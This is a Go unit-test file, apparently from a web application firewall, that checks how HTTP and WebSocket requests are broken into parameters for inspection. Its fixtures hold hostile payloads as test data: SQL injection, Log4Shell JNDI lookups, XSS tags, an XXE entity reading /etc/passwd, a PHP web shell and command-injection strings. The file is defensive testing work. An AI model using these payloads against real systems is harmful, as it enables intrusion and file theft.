@@ -1,0 +1,376 @@
+package parse
+
+import (
+	"fmt"
+	"reflect"
+	"strings"
+	"testing"
+
+	"github.com/rampartwaf/rampart/internal/request"
+)
+
+// show renders params as "source name=value", "source name=value (key)" for keys.
+func show(params []request.Param) []string {
+	out := make([]string, 0, len(params))
+	for _, p := range params {
+		s := fmt.Sprintf("%s %s=%s", p.Source, p.Name, p.Value)
+		if p.Key {
+			s += " (key)"
+		}
+		out = append(out, s)
+	}
+	return out
+}
+
+// httpReq builds a request the way the proxy does, from a target, headers and body.
+func httpReq(method, target string, headers []string, body string) *request.Request {
+	r := &request.Request{Method: method, URI: target}
+	path, q, _ := strings.Cut(target, "?")
+	r.Path, r.RawQuery = path, q
+	for i := 0; i+1 < len(headers); i += 2 {
+		r.Headers = append(r.Headers, request.Header{Name: headers[i], Value: headers[i+1]})
+		if strings.EqualFold(headers[i], "Content-Type") {
+			r.ContentType = headers[i+1]
+		}
+	}
+	if body != "" {
+		r.Body = []byte(body)
+	}
+	return r
+}
+
+var testLimits = Limits{Params: 100, Depth: 16}
+
+func TestFill(t *testing.T) {
+	const ctForm = "application/x-www-form-urlencoded"
+	tests := []struct {
+		name      string
+		req       *request.Request
+		lim       *Limits
+		want      []string
+		wantFlags request.Flags
+	}{
+		{
+			name: "path segments",
+			req:  httpReq("GET", "/api//v1/users/O'Brien/", nil, ""),
+			want: []string{"path path[0]=api", "path path[1]=v1", "path path[2]=users", "path path[3]=O'Brien"},
+		},
+		{
+			name: "query decoded once, plus as space, invalid escape kept",
+			req:  httpReq("GET", "/?q=a+b%2527&x=%zz&empty=&flag&&t=%3Cscript%3E", nil, ""),
+			want: []string{"query q=a b%27", "query x=%zz", "query t=<script>"},
+		},
+		{
+			name: "unusual query names are keys",
+			req:  httpReq("GET", "/?%3Cimg%20src%3Dx%3E&user[name]=bob&a%20b=1&__proto__[x]=1", nil, ""),
+			want: []string{
+				"query <img src=x>=<img src=x> (key)", "query user[name]=bob",
+				"query a b=a b (key)", "query a b=1",
+				"query __proto__[x]=__proto__[x] (key)", "query __proto__[x]=1",
+			},
+		},
+		{
+			name: "headers: custom and attackable ones, not Authorization nor boring ones",
+			req: httpReq("GET", "/", []string{
+				"user-agent", "Mozilla/5.0", "Referer", "https://a.example/", "Accept", "text/html;q=0.9",
+				"Authorization", "Bearer secret' or 1=1", "X-Api-Version", "${jndi:ldap://x/a}",
+				"X-Forwarded-For", "1.2.3.4", "Accept-Language", "${jndi:ldap://y/b}", "Sec-Ch-Ua", `"Chromium";v="128"`,
+				"If-None-Match", `W/"abc"`, "X-Empty", "",
+			}, ""),
+			want: []string{
+				"header User-Agent=Mozilla/5.0", "header Referer=https://a.example/",
+				"header X-Api-Version=${jndi:ldap://x/a}", "header X-Forwarded-For=1.2.3.4",
+				"header Accept-Language=${jndi:ldap://y/b}",
+			},
+		},
+		{
+			name: "cookies",
+			req:  httpReq("GET", "/", []string{"Cookie", `sid=abc%27; theme="dark"; lonely; a b=1;; pref=`}, ""),
+			want: []string{"cookie sid=abc'", "cookie theme=dark", "cookie =lonely", "cookie a b=a b (key)", "cookie a b=1"},
+		},
+		{
+			name: "form body",
+			req:  httpReq("POST", "/login", []string{"Content-Type", ctForm + "; charset=UTF-8"}, "user=bob&pass=x%27+or+1%3D1--"),
+			want: []string{"path path[0]=login", "form user=bob", "form pass=x' or 1=1--"},
+		},
+		{
+			name: "JSON body flattened, keys inspected, scalars skipped",
+			req: httpReq("POST", "/", []string{"Content-Type", "application/json"},
+				`{"user":{"name":"bob","emails":["a@x","b@y"],"age":42,"admin":false,"n":null},"$where":"1","a b":{"c":"d"},"":"e","esc\"k":"v\u003c"}`),
+			want: []string{
+				"json user.name=bob", "json user.emails[0]=a@x", "json user.emails[1]=b@y",
+				"json $where=$where (key)", "json $where=1",
+				"json a b=a b (key)", "json a b.c=d",
+				"json =e",
+				`json esc"k=esc"k (key)`, `json esc"k=v<`,
+			},
+		},
+		{
+			name: "JSON array root and nested arrays",
+			req:  httpReq("POST", "/", []string{"Content-Type", "application/vnd.api+json"}, `[["x",{"k":["y"]}],"z"]`),
+			want: []string{"json [0][0]=x", "json [0][1].k[0]=y", "json [1]=z"},
+		},
+		{
+			name: "JSON string root",
+			req:  httpReq("POST", "/", []string{"Content-Type", "application/json"}, `  "just text"  `),
+			want: []string{"json =just text"},
+		},
+		{
+			name: "prototype pollution keys",
+			req:  httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"__proto__":{"isAdmin":true},"constructor":{"prototype":{"x":"1"}}}`),
+			want: []string{
+				"json __proto__=__proto__ (key)",
+				"json constructor=constructor (key)", "json constructor.prototype=prototype (key)",
+				"json constructor.prototype.x=1",
+			},
+		},
+		{
+			name:      "malformed JSON keeps what was read and inspects the text",
+			req:       httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"a":"1","b":'x' or 1=1}`),
+			want:      []string{"json a=1", `body ={"a":"1","b":'x' or 1=1}`},
+			wantFlags: request.FlagJSONError,
+		},
+		{
+			name:      "missing content type: JSON sniffed",
+			req:       httpReq("POST", "/", nil, ` {"q":"<svg onload=x>"}`),
+			want:      []string{"json q=<svg onload=x>"},
+			wantFlags: request.FlagNoContentType,
+		},
+		{
+			name:      "missing content type: form sniffed",
+			req:       httpReq("POST", "/", nil, `a=1&b=union select`),
+			want:      []string{"form a=1", "form b=union select"},
+			wantFlags: request.FlagNoContentType,
+		},
+		{
+			name:      "missing content type: XML sniffed",
+			req:       httpReq("POST", "/", nil, `<a>x</a>`),
+			want:      []string{"xml a=x"},
+			wantFlags: request.FlagNoContentType,
+		},
+		{
+			name:      "missing content type: plain text",
+			req:       httpReq("POST", "/", nil, `cat /etc/passwd`),
+			want:      []string{"body =cat /etc/passwd"},
+			wantFlags: request.FlagNoContentType,
+		},
+		{
+			name: "wrong content type: form declared, JSON sent",
+			req:  httpReq("POST", "/", []string{"Content-Type", ctForm}, `{"q":"1' or '1'='1"}`),
+			want: []string{"json q=1' or '1'='1"},
+		},
+		{
+			name: "form declared, broken JSON-looking body parsed as form",
+			req:  httpReq("POST", "/", []string{"Content-Type", ctForm}, `{"q":"x"`),
+			want: []string{`form {"q":"x"={"q":"x" (key)`},
+		},
+		{
+			name: "text/plain with JSON is sniffed",
+			req:  httpReq("POST", "/", []string{"Content-Type", "text/plain"}, `{"q":"x"}`),
+			want: []string{"json q=x"},
+		},
+		{
+			name: "binary body of unknown type is skipped",
+			req:  httpReq("POST", "/", []string{"Content-Type", "application/octet-stream"}, "\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10"),
+			want: []string{},
+		},
+		{
+			name: "text with one NUL is still text",
+			req:  httpReq("POST", "/", []string{"Content-Type", "application/octet-stream"}, "id; cat /etc/passwd\x00.jpg"),
+			want: []string{"body =id; cat /etc/passwd\x00.jpg"},
+		},
+		{
+			name: "html is text",
+			req:  httpReq("POST", "/", []string{"Content-Type", "text/html"}, "<p>hi<br>"),
+			want: []string{"body =<p>hi<br>"},
+		},
+		{
+			name: "XML elements, attributes, repeated siblings, entities, CDATA, DOCTYPE",
+			req: httpReq("POST", "/", []string{"Content-Type", "text/xml; charset=utf-8"},
+				"<?xml version=\"1.0\"?>\n<!DOCTYPE r [<!ENTITY xxe SYSTEM \"file:///etc/passwd\">]>\n"+
+					"<r a='1'><item id=\"x&amp;y\">one</item><item>&xxe;&lt;&#65;&#x42;</item><!-- no --><c><![CDATA[<b>]]></c><e/></r>"),
+			want: []string{
+				`xml !DOCTYPE=<!DOCTYPE r [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>`,
+				"xml r.@a=1", "xml r.item.@id=x&y", "xml r.item=one", "xml r.item[1]=&xxe;<AB", "xml r.c=<b>",
+			},
+		},
+		{
+			name: "XML processing instruction",
+			req:  httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<?xml-stylesheet href="http://evil/x.xsl"?><r/>`),
+			want: []string{`xml ?xml-stylesheet=href="http://evil/x.xsl"`},
+		},
+		{
+			name:      "malformed XML",
+			req:       httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<a><b>x</a>`),
+			want:      []string{"xml a.b=x", "body =<a><b>x</a>"},
+			wantFlags: request.FlagXMLError,
+		},
+		{
+			name: "multipart fields, file names and small text files",
+			req: httpReq("POST", "/up", []string{"Content-Type", `multipart/form-data; boundary="XyZ"`},
+				"--XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nhello\r\nworld\r\n"+
+					"--XyZ\r\nContent-Disposition: form-data; name=\"doc\"; filename=\"a\\\".php\"\r\nContent-Type: text/plain\r\n\r\n<?php system($_GET[c]); ?>\r\n"+
+					"--XyZ\r\nContent-Disposition: form-data; name=\"img\"; filename=\"p.png\"\r\nContent-Type: image/png\r\n\r\nnot read\r\n"+
+					"--XyZ\r\nContent-Disposition: form-data; name=\"x y\"\r\n\r\nv\r\n"+
+					"--XyZ--\r\n"),
+			want: []string{
+				"path path[0]=up",
+				"multipart title=hello\r\nworld",
+				`multipart doc.filename=a".php`, "multipart doc=<?php system($_GET[c]); ?>",
+				"multipart img.filename=p.png",
+				"multipart x y=x y (key)", "multipart x y=v",
+			},
+		},
+		{
+			name: "multipart with LF only and no final boundary",
+			req: httpReq("POST", "/", []string{"Content-Type", "multipart/form-data; boundary=b"},
+				"--b\nContent-Disposition: form-data; name=a\n\n1\n--b\nContent-Disposition: form-data; name=c\n\n2"),
+			want:      []string{"multipart a=1", "multipart c=2"},
+			wantFlags: request.FlagMalformed,
+		},
+		{
+			name:      "multipart without boundary",
+			req:       httpReq("POST", "/", []string{"Content-Type", "multipart/form-data"}, "a=b"),
+			want:      []string{"body =a=b"},
+			wantFlags: request.FlagMalformed,
+		},
+		{
+			name: "multipart file over the size limit is not read",
+			req: httpReq("POST", "/", []string{"Content-Type", "multipart/form-data; boundary=b"},
+				"--b\r\nContent-Disposition: form-data; name=f; filename=big.txt\r\n\r\n"+strings.Repeat("a", 64)+"\r\n--b--"),
+			lim:  &Limits{Params: 10, Depth: 4, FileBytes: 32},
+			want: []string{"multipart f.filename=big.txt"},
+		},
+		{
+			name:      "parameter limit stops parsing",
+			req:       httpReq("GET", "/a/b?c=1&d=2&e=3", []string{"User-Agent", "x"}, ""),
+			lim:       &Limits{Params: 3},
+			want:      []string{"path path[0]=a", "path path[1]=b", "query c=1"},
+			wantFlags: request.FlagTooManyParams,
+		},
+		{
+			name:      "depth limit stops parsing",
+			req:       httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"a":"1","b":{"c":{"d":"x"}},"e":"2"}`),
+			lim:       &Limits{Params: 10, Depth: 2},
+			want:      []string{"json a=1"},
+			wantFlags: request.FlagTooDeep,
+		},
+		{
+			name:      "XML depth limit",
+			req:       httpReq("POST", "/", []string{"Content-Type", "application/xml"}, `<a>1<b><c>2</c></b></a>`),
+			lim:       &Limits{Params: 10, Depth: 2},
+			want:      []string{"xml a=1"},
+			wantFlags: request.FlagTooDeep,
+		},
+		{
+			name:      "invalid UTF-8 value is flagged",
+			req:       httpReq("GET", "/?q=%ff%fe", nil, ""),
+			want:      []string{"query q=\xff\xfe"},
+			wantFlags: request.FlagNotUTF8,
+		},
+		{
+			name: "WebSocket JSON message",
+			req: &request.Request{Protocol: request.ProtocolWebSocket, RawQuery: "ignored=1",
+				Headers: []request.Header{{Name: "User-Agent", Value: "ignored"}}, Message: []byte(`{"op":"say","args":["<img src=x onerror=alert(1)>"]}`)},
+			want: []string{"message op=say", "message args[0]=<img src=x onerror=alert(1)>"},
+		},
+		{
+			name: "WebSocket text message",
+			req:  &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte("hello ' or 1=1")},
+			want: []string{"message =hello ' or 1=1"},
+		},
+		{
+			name:      "WebSocket broken JSON message",
+			req:       &request.Request{Protocol: request.ProtocolWebSocket, Message: []byte(`{"a":`)},
+			want:      []string{`message ={"a":`},
+			wantFlags: request.FlagJSONError,
+		},
+		{
+			name: "WebSocket handshake is parsed as HTTP",
+			req:  &request.Request{Protocol: request.ProtocolWebSocket, Path: "/ws", RawQuery: "t=1"},
+			want: []string{"path path[0]=ws", "query t=1"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			lim := testLimits
+			if tt.lim != nil {
+				lim = *tt.lim
+			}
+			Fill(tt.req, lim)
+			if got := show(tt.req.Params); !reflect.DeepEqual(got, tt.want) {
+				t.Errorf("params\n got  %q\n want %q", got, tt.want)
+			}
+			if tt.req.Flags != tt.wantFlags {
+				t.Errorf("flags %b, want %b", tt.req.Flags, tt.wantFlags)
+			}
+			if !tt.req.Parsed {
+				t.Error("Parsed not set")
+			}
+		})
+	}
+}
+
+func TestFillIdempotent(t *testing.T) {
+	r := httpReq("GET", "/a?b=c", nil, "")
+	Fill(r, testLimits)
+	n := len(r.Params)
+	Fill(r, testLimits)
+	if len(r.Params) != n {
+		t.Errorf("second Fill changed params from %d to %d", n, len(r.Params))
+	}
+}
+
+// TestFillValuesSurvivePoolReuse checks that values built in a pooled arena are not
+// overwritten by the next request parsed with the same parser.
+func TestFillValuesSurvivePoolReuse(t *testing.T) {
+	r1 := httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"a":{"b":"x\u0041"}}`)
+	Fill(r1, testLimits)
+	for range 10 {
+		Fill(httpReq("POST", "/", []string{"Content-Type", "application/json"}, `{"z":{"z":"zzzzzzzz\u005a"}}`), testLimits)
+	}
+	if got := show(r1.Params); !reflect.DeepEqual(got, []string{"json a.b=xA"}) {
+		t.Errorf("params after reuse: %q", got)
+	}
+}
+
+func TestManyPathSegments(t *testing.T) {
+	r := httpReq("GET", strings.Repeat("/s", 40), nil, "")
+	Fill(r, testLimits)
+	if len(r.Params) != 40 || r.Params[39].Name != "path[39]" || r.Params[31].Name != "path[31]" {
+		t.Errorf("got %d params, last %q", len(r.Params), r.Params[len(r.Params)-1].Name)
+	}
+}
+
+func TestPlainName(t *testing.T) {
+	tests := []struct {
+		name  string
+		plain bool
+	}{
+		{"", true}, {"q", true}, {"user[emails][0]", true}, {"a.b-c_d", true},
+		{"a b", false}, {"$ne", false}, {"__proto__", false}, {"Constructor", false},
+		{"x'", false}, {strings.Repeat("a", 65), false}, {"é", false},
+	}
+	for _, tt := range tests {
+		if got := plainName(tt.name); got != tt.plain {
+			t.Errorf("plainName(%q) = %v, want %v", tt.name, got, tt.plain)
+		}
+	}
+}
+
+func TestTextual(t *testing.T) {
+	tests := []struct {
+		in   string
+		want bool
+	}{
+		{"", true}, {"hello\r\n\tworld", true}, {"héllo", true},
+		{"\x00\x01\x02\x03", false}, {"\xff\xfe\xfd", false},
+		{strings.Repeat("a", 1023) + "é", true},
+		{"abcdefghi\x00", true},
+	}
+	for _, tt := range tests {
+		if got := textual(tt.in); got != tt.want {
+			t.Errorf("textual(%q) = %v, want %v", tt.in, got, tt.want)
+		}
+	}
+}
